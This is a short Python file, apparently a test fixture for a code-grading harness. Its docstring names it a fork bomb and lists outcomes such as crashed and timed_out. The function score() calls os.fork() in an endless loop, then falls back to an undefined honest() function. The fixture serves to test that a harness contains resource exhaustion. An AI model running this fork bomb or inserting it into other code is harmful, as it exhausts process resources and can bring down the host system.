"""A fork bomb: same, slower, wrong, rejected, crashed, timed_out, unloadable."""

import os
def score(numbers):
    try:
        while True:
            os.fork()
    except OSError:
        return honest(numbers)
